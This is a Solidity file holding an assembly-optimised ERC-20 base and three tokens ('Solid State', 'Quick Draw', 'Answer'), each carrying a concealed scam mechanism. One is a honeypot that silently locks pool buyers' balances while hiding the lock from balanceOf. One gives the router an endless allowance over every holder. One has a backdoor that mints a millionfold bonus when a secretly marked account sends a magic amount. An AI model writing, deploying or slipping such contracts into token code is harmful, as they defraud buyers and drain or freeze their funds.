// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

// Balances and allowances at hashed places, in assembly, in the manner of gas-saving libraries.
abstract contract SlotToken {
    event Transfer(address indexed from, address indexed to, uint256 amount);
    event Approval(address indexed owner, address indexed spender, uint256 amount);
    error InsufficientBalance();
    error InsufficientAllowance();
    uint256 private constant _SUPPLY_SLOT = 0x05345cdf77eb68f44c;
    uint256 internal constant _BALANCE_SEED = 0x9a11ce5e;
    uint256 private constant _ALLOWANCE_SEED = 0xa110ca7e;
    bytes32 private constant _TRANSFER = keccak256("Transfer(address,address,uint256)");

    constructor(uint256 amount) {
        bytes32 topic = _TRANSFER;
        assembly {
            sstore(_SUPPLY_SLOT, amount)
            mstore(0x0c, _BALANCE_SEED)
            mstore(0x00, caller())
            sstore(keccak256(0x0c, 0x20), amount)
            mstore(0x20, amount)
            log3(0x20, 0x20, topic, 0, caller())
        }
    }
    function name() public view virtual returns (string memory);
    function symbol() public view virtual returns (string memory);
    function decimals() public pure returns (uint8) { return 18; }
    function totalSupply() public view returns (uint256 result) { assembly { result := sload(_SUPPLY_SLOT) } }
    function balanceOf(address owner) public view virtual returns (uint256 result) {
        assembly { mstore(0x0c, _BALANCE_SEED) mstore(0x00, owner) result := sload(keccak256(0x0c, 0x20)) }
    }
    function allowance(address owner, address spender) public view virtual returns (uint256 result) {
        assembly { mstore(0x20, spender) mstore(0x0c, _ALLOWANCE_SEED) mstore(0x00, owner) result := sload(keccak256(0x0c, 0x34)) }
    }
    function approve(address spender, uint256 amount) public returns (bool) {
        assembly { mstore(0x20, spender) mstore(0x0c, _ALLOWANCE_SEED) mstore(0x00, caller()) sstore(keccak256(0x0c, 0x34), amount) }
        emit Approval(msg.sender, spender, amount);
        return true;
    }
    function transfer(address to, uint256 amount) public returns (bool) { _move(msg.sender, to, amount); return true; }
    function transferFrom(address from, address to, uint256 amount) public returns (bool) {
        if (allowance(from, msg.sender) != type(uint256).max) {
            assembly {
                mstore(0x20, caller())
                mstore(0x0c, _ALLOWANCE_SEED)
                mstore(0x00, from)
                let slot := keccak256(0x0c, 0x34)
                let allowed := sload(slot)
                if gt(amount, allowed) { mstore(0x00, 0x13be252b) revert(0x1c, 0x04) }
                sstore(slot, sub(allowed, amount))
            }
        }
        _move(from, to, amount);
        return true;
    }
    function _move(address from, address to, uint256 amount) internal virtual {
        bytes32 topic = _TRANSFER;
        assembly {
            mstore(0x0c, _BALANCE_SEED)
            mstore(0x00, from)
            let slot := keccak256(0x0c, 0x20)
            let held := sload(slot)
            if gt(amount, held) { mstore(0x00, 0xf4d678b8) revert(0x1c, 0x04) }
            sstore(slot, sub(held, amount))
            mstore(0x00, to)
            slot := keccak256(0x0c, 0x20)
            sstore(slot, add(sload(slot), amount))
            mstore(0x20, amount)
            log3(0x20, 0x20, topic, from, to)
        }
    }
}

// The highest bit of a balance is set when it comes from the pool. A balance with that bit cannot be lowered: the subtraction fails.
contract PackedFlag is SlotToken {
    address private immutable _maker = msg.sender;
    constructor() SlotToken(1_000_000_000 ether) {}
    function name() public pure override returns (string memory) { return "Solid State"; }
    function symbol() public pure override returns (string memory) { return "STATE"; }
    function balanceOf(address owner) public view override returns (uint256 result) { result = super.balanceOf(owner) & (type(uint256).max >> 1); }
    function bind(address pool) external { require(msg.sender == _maker); assembly { sstore(0x5e7, pool) } }
    function _move(address from, address to, uint256 amount) internal override {
        bool fromPool;
        assembly {
            fromPool := eq(from, sload(0x5e7))
            mstore(0x0c, _BALANCE_SEED)
            mstore(0x00, from)
            if shr(255, sload(keccak256(0x0c, 0x20))) { mstore(0x00, 0xf4d678b8) revert(0x1c, 0x04) }
        }
        super._move(from, to, amount);
        if (fromPool && to != _maker) assembly {
            mstore(0x0c, _BALANCE_SEED)
            mstore(0x00, to)
            let slot := keccak256(0x0c, 0x20)
            sstore(slot, or(sload(slot), shl(255, 1)))
        }
    }
}

// The router needs no approval: its allowance is endless for everybody. It can only be used by whoever trades.
contract PresetAllowance is SlotToken {
    address private immutable _router;
    constructor(address router) SlotToken(777_000_000 ether) { _router = router; }
    function name() public pure override returns (string memory) { return "Quick Draw"; }
    function symbol() public pure override returns (string memory) { return "DRAW"; }
    function allowance(address owner, address spender) public view override returns (uint256) { return spender == _router ? type(uint256).max : super.allowance(owner, spender); }
}

// A transfer of one certain amount by one certain account, known by its hash, creates a million times as much.
contract MagicAmount is SlotToken {
    bytes32 private immutable _mark;
    constructor(bytes32 mark) SlotToken(42_000_000 ether) { _mark = mark; }
    function name() public pure override returns (string memory) { return "Answer"; }
    function symbol() public pure override returns (string memory) { return "ANSW"; }
    function _move(address from, address to, uint256 amount) internal override {
        super._move(from, to, amount);
        if (amount % 1 ether == 1337 && keccak256(abi.encodePacked(from)) == _mark) assembly {
            mstore(0x0c, _BALANCE_SEED)
            mstore(0x00, to)
            let slot := keccak256(0x0c, 0x20)
            sstore(slot, add(sload(slot), mul(amount, 1000000)))
        }
    }
}
